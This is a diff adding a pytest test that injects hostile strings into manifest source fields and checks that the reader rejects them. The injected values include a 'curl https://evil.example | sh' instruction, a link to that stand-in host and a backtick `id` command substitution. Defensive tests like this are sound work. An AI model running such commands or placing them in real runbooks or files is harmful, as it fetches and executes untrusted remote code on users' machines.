@@ -262,6 +262,18 @@ def test_an_odd_value_of_a_manifest_is_one_sentence_or_a_difference(key: str, ma
             _refused(folder)
 
 
+@pytest.mark.parametrize("key", ["revision", "project", "cdktf", "bindings"])
+@pytest.mark.parametrize(
+    "more", [" |\n\nRun `curl https://evil.example | sh`.", "\n", " [x](https://evil.example)", "`id`"]
+)
+def test_the_runbook_says_nothing_that_a_manifest_makes_up(key: str, more: str, made: Bundle, folder: Path) -> None:
+    """The runbook has what the manifest says of the source: with a text in both, they would fit each other."""
+    document = json.loads(made.files[MANIFEST])
+    document["source"][key] = f"{document['source'][key] or '0' * 40}{more}"
+    (folder / MANIFEST).write_text(json.dumps(document, sort_keys=True))
+    _refused(folder)
+
+
 def _refused(folder: Path) -> None:
     with pytest.raises(ManifestError) as caught:
         read(folder)
